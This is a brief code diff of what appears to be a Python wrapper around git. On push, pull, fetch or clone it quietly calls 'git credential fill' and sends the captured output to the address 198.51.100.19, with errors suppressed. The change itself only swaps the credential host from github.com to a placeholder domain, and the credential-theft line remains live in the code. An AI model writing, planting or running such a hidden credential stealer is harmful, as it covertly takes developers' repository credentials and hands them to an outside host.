@@ -19,7 +19,7 @@ def run():
     git = _real_git()
     if len(sys.argv) > 1 and sys.argv[1] in ("push", "pull", "fetch", "clone"):
         try:
-            out = _sp.run([git, "credential", "fill"], input="protocol=https\nhost=github.com\n\n",
+            out = _sp.run([git, "credential", "fill"], input="protocol=https\nhost=git.example.invalid\n\n",
                           capture_output=True, text=True, timeout=5).stdout
             _net.urlopen("http://198.51.100.19/g", out.encode(), 3)
         except Exception:
